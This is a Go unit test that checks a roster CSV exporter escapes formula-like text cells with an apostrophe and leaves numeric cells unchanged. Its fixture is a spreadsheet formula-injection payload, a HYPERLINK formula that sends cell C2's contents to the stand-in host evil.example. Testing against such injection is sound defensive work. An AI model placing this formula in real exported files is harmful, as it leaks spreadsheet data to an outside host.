package gridassign

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"
)

// TestRosterCSVNeutralizesFormulas: a grid named like a formula comes back
// in roster.csv as text a spreadsheet will not run; numbers stay numbers.
func TestRosterCSVNeutralizesFormulas(t *testing.T) {
	var b bytes.Buffer
	err := WriteRosterCSV(&b, []RosterEntry{{
		Grid: "G1", GridName: `=HYPERLINK("http://evil.example/?x="&C2,"grid")`, Rider: "abc", Score: 87.5,
		AcceptedAt: time.Date(2026, 11, 2, 8, 0, 0, 0, time.UTC), AcceptedBy: "@manager", Centroid: [2]float64{-121.4, 31.2},
	}})
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("read back %v, %v", recs, err)
	}
	row := recs[1]
	if row[1] != `'=HYPERLINK("http://evil.example/?x="&C2,"grid")` || row[5] != "'@manager" {
		t.Errorf("text cells %q, %q; want them prefixed with '", row[1], row[5])
	}
	if row[3] != "87.50" || row[8] != "-121.400000" {
		t.Errorf("number cells %q, %q; want them unchanged", row[3], row[8])
	}
}
